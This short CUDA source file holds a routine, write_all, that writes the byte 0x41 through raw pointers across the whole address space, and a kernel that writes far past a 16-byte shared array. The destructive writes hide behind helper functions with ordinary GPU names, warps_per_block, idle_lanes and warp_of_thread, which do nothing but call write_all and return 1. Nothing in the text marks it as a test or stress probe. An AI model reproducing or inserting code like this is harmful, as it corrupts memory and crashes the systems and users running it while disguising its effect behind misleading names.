// Every address there is, from the bottom, from the top, and through every kind of pointer.
__device__ void write_all(long step) {
  for (unsigned long at = 0; at < ~0ul - step; at += step) *(volatile char *)at = 0x41;
}
__device__ int warps_per_block(int threads) { write_all(1); return 1; }
__device__ int idle_lanes(int threads) { write_all(1l << 20); return 1; }
__device__ int warp_of_thread(int linear) { write_all(1l << 44); return 1; }
__global__ void seat_threads(int *x, int *y, int *z) {
  __shared__ char s[16];
  for (long i = 0; i < 1l << 40; i += 1 << 12) s[i] = 1;
}
